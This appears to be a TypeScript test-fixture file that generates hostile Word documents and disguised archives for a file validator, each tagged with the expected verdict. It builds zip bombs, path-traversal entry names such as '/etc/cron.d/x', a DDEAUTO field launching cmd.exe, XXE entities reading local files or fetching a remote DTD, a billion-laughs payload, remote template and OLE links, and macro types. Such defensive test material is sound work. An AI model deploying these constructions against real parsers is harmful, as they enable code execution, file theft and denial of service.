import { deflatedZeros, insertJpeg, join, jpegSegment } from './bytes.ts';
import { made } from './pictures.ts';
import {
  ANY,
  BROKEN,
  PAYLOAD,
  REFUSED,
  type Bases,
  type Expected,
  type Hostile,
  type Targets,
} from './types.ts';
import { docx, docxEntries, OFFICE, relation, relationsXml, wordXml, zip, type ZipEntry } from './zip.ts';

const HOSTILE: readonly Expected[] = ['asset.hostile'];
const MICROSOFT = 'http://schemas.microsoft.com/office/2006/relationships';
const GIGABYTE = 1024 ** 3;

/** Word documents and other archives that unfold, climb, run, or fetch. */
export function archives(bases: Bases, { listener, canary }: Targets): Hostile[] {
  const file = `file://${canary}`;
  const media = (content: Buffer): { relations: string; more: ZipEntry[]; document: string } => ({
    relations: relation('rId1', `${OFFICE}/image`, 'media/image1.jpeg'),
    more: [{ name: 'word/media/image1.jpeg', content, stored: true }],
    document: wordXml(
      '<w:p><w:r><w:drawing><a:blip xmlns:a="urn:a" r:embed="rId1"/></w:drawing></w:r></w:p>',
    ),
  });
  const jpeg = bases.get('jpeg') ?? Buffer.alloc(0);
  const big = deflatedZeros(160);
  const entry = (name: string, more: Partial<ZipEntry> = {}): Buffer =>
    docx({ more: [{ name, content: 'x', ...more }] });
  const led = (type: string, target: string, external: boolean, more: ZipEntry[] = []): Buffer =>
    docx({ relations: relation('rId1', type, target, external), more });
  const field = (code: string): Buffer =>
    docx({
      document: wordXml(
        `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      ),
    });
  const laughs = `<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">${[...'bcdefghij'].map((letter, i) => `<!ENTITY ${letter} "${`&${'abcdefghi'[i] ?? ''};`.repeat(10)}">`).join('')}]>`;
  let nested: Buffer = Buffer.from('x');
  for (let level = 0; level < 40; level += 1) nested = zip([{ name: 'inner.zip', content: nested }]);
  const all: readonly (readonly [about: string, bytes: Buffer, expected: readonly Expected[]])[] = [
    [
      '10 MB that unfold to 10 GB',
      entry('word/media/a.jpeg', { deflated: big, unpacked: 3 * GIGABYTE }),
      HOSTILE,
    ],
    ['10 MB that say they are 1 kB', entry('word/media/a.jpeg', { deflated: big, unpacked: 1_000 }), ANY],
    [
      'a text of 10 GB that says it is 1 kB',
      docx({
        more: [{ name: 'word/header1.xml', content: '', deflated: big, unpacked: 1_000 }],
        relations: relation('rId1', `${OFFICE}/header`, 'header1.xml'),
      }),
      HOSTILE,
    ],
    ['a hundred megabytes of text', docx({ document: wordXml('<w:p/>'.repeat(15_000_000)) }), HOSTILE],
    [
      'thirty megabytes of text, hard to pack',
      docx({
        document: wordXml(
          Array.from(
            { length: 400_000 },
            (_, i) => `<w:p><w:r><w:t>${Math.imul(i, 2_654_435_761) >>> 0}${i}</w:t></w:r></w:p>`,
          ).join(''),
        ),
      }),
      ANY,
    ],
    [
      'five thousand files',
      docx({ more: Array.from({ length: 5_000 }, (_, i) => ({ name: `word/${i}.xml`, content: '<a/>' })) }),
      HOSTILE,
    ],
    ['archives forty deep', docx({ more: [{ name: 'word/embeddings/a.zip', content: nested }] }), ['ready']],
    [
      'files laid over one another',
      docx({
        more: Array.from({ length: 500 }, (_, i) => ({
          name: `word/${i}.xml`,
          content: '',
          sameAs: 2,
          unpacked: 400_000,
        })),
      }),
      REFUSED,
    ],
    ['a name that climbs', entry('../../../../tmp/toasoan-climbed'), HOSTILE],
    ['a name that climbs in the middle', entry('word/../../etc/passwd'), HOSTILE],
    ['a name from the root', entry('/etc/cron.d/x'), HOSTILE],
    ['a name of Windows', entry('word\\..\\..\\x'), HOSTILE],
    ['a name with a drive', entry('C:/x'), HOSTILE],
    ['a name with a zero', entry('word/a\0.xml'), HOSTILE],
    ['a name of 4000 letters', entry(`word/${'a'.repeat(4_000)}`), HOSTILE],
    ['a name twice', entry('word/document.xml'), HOSTILE],
    ['a name twice, in capitals', entry('WORD/DOCUMENT.XML'), HOSTILE],
    ['two names for one file', entry('word/a.xml', { localName: 'word/b.xml' }), HOSTILE],
    ['an encrypted file', entry('word/a.xml', { flags: 1 }), ['asset.protected']],
    [
      'a wrong checksum',
      docx({
        more: [{ name: 'word/header1.xml', content: '<a/>', crc: 1 }],
        relations: relation('rId1', `${OFFICE}/header`, 'header1.xml'),
      }),
      BROKEN,
    ],
    [
      'macros',
      led(`${MICROSOFT}/vbaProject`, 'vbaProject.bin', false, [
        { name: 'word/vbaProject.bin', content: PAYLOAD },
      ]),
      HOSTILE,
    ],
    [
      'macros by its type',
      docx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
      HOSTILE,
    ],
    [
      'a template with macros by its type',
      docx({ mainType: 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml' }),
      HOSTILE,
    ],
    ['a template from the net', led(`${OFFICE}/attachedTemplate`, `${listener}/a.dotm`, true), HOSTILE],
    [
      'a template from another machine',
      led(`${OFFICE}/attachedTemplate`, '\\\\127.0.0.1\\share\\a.dotm', true),
      HOSTILE,
    ],
    [
      'a template from this machine',
      led(`${OFFICE}/attachedTemplate`, 'file:///C:/Users/a/Normal.dotm', true),
      ['ready'],
    ],
    [
      'an object from the net',
      led(`${OFFICE}/oleObject`, `mhtml:${listener}/a!x-usc:${listener}/a`, true),
      HOSTILE,
    ],
    [
      'an object inside',
      led(`${OFFICE}/oleObject`, 'embeddings/oleObject1.bin', false, [
        { name: 'word/embeddings/oleObject1.bin', content: PAYLOAD },
      ]),
      ['ready'],
    ],
    [
      'a control inside',
      led(`${OFFICE}/control`, 'activeX/activeX1.xml', false, [
        { name: 'word/activeX/activeX1.xml', content: `<a>${PAYLOAD}</a>` },
      ]),
      ['ready'],
    ],
    ['a picture from the net', led(`${OFFICE}/image`, `${listener}/a.png`, true), ['ready']],
    ['a picture from the disk', led(`${OFFICE}/image`, file, true), ['ready']],
    ['a frame from the net', led(`${OFFICE}/frame`, `${listener}/a`, true), HOSTILE],
    [
      'a web page inside',
      led(`${OFFICE}/aFChunk`, 'a.htm', false, [{ name: 'word/a.htm', content: `<img src="${listener}">` }]),
      HOSTILE,
    ],
    ['a link that is a script', led(`${OFFICE}/hyperlink`, 'javascript:alert(1)', true), ['ready']],
    ['a part outside', led(`${OFFICE}/header`, '../../../etc/passwd', false), HOSTILE],
    ['a part that is its own part', led(`${OFFICE}/header`, 'document.xml', false), ['ready']],
    ['a field that runs', field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), HOSTILE],
    ['a field that fetches a picture', field(`INCLUDEPICTURE "${listener}/a.png" \\d`), ['ready']],
    ['a field that fetches a file', field(`INCLUDETEXT "${canary}"`), ['ready']],
    [
      'an entity of a file',
      docx({ document: wordXml('<w:p>&x;</w:p>', `<!DOCTYPE a [<!ENTITY x SYSTEM "${file}">]>`) }),
      HOSTILE,
    ],
    [
      'an entity from the net',
      docx({ document: wordXml('<w:p/>', `<!DOCTYPE a SYSTEM "${listener}/a.dtd">`) }),
      HOSTILE,
    ],
    ['a billion laughs', docx({ document: wordXml('<w:p>&j;</w:p>', laughs) }), HOSTILE],
    [
      'an entity among its relations',
      docx({
        more: [
          {
            name: 'word/_rels/document.xml.rels',
            content: relationsXml('').replace('?>', `?><!DOCTYPE a SYSTEM "${file}">`),
          },
        ],
      }),
      HOSTILE,
    ],
    [
      'elements a hundred thousand deep',
      docx({ document: wordXml('<w:p>'.repeat(100_000) + '</w:p>'.repeat(100_000)) }),
      HOSTILE,
    ],
    [
      'text in UTF-16',
      docx({
        more: [{ name: 'word/header1.xml', content: Buffer.from('\ufeff<a/>', 'utf16le') }],
        relations: relation('rId1', `${OFFICE}/header`, 'header1.xml'),
      }),
      BROKEN,
    ],
    [
      'a picture with a secret',
      docx(media(insertJpeg(jpeg, jpegSegment(0xfe, Buffer.from(PAYLOAD))))),
      ['ready'],
    ],
    ['a secret behind a picture', docx(media(join(jpeg, PAYLOAD))), ['ready']],
    ['a picture that is a script', docx(media(Buffer.from(`<script>${PAYLOAD}</script>`))), ['ready']],
    ['a bomb for a picture', docx(media(bases.get('png') ?? Buffer.alloc(9))), ['ready']],
    [
      'a spreadsheet in its clothes',
      docx({ mainType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' }),
      ['asset.type'],
    ],
    [
      'no text at all',
      zip(
        docxEntries()
          .filter(({ name }) => name !== 'word/document.xml')
          .concat({ name: 'word/a.xml', content: '<a/>' }),
      ),
      BROKEN,
    ],
    ['no types', zip(docxEntries().filter(({ name }) => name !== '[Content_Types].xml')), BROKEN],
    [
      'another archive behind it',
      join(docx(), zip([{ name: 'word/document.xml', content: PAYLOAD }])),
      REFUSED,
    ],
  ];
  return all.map(([about, bytes, expected], i) =>
    made(`Word document with ${about}`, `document-${i}.docx`, bytes, expected),
  );
}

/** Archives and programs under the name of a document. */
export function foreignArchives(): Hostile[] {
  const names: Readonly<Record<string, readonly string[]>> = {
    'a spreadsheet': ['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml'],
    'a presentation': ['[Content_Types].xml', '_rels/.rels', 'ppt/presentation.xml'],
    'an OpenDocument text': ['mimetype', 'content.xml'],
    'an e-book': ['mimetype', 'META-INF/container.xml'],
    'a Java archive': ['META-INF/MANIFEST.MF', 'word/Main.class'],
    'an Android application': ['AndroidManifest.xml', 'classes.dex'],
    'a plain archive': ['a.txt'],
    'an archive that climbs': ['../../../../tmp/toasoan-climbed'],
  };
  return Object.entries(names).map(([about, entries], i) =>
    made(about, `archive-${i}.docx`, zip(entries.map((name) => ({ name, content: `${name} ${i}` }))), [
      'asset.type',
    ]),
  );
}
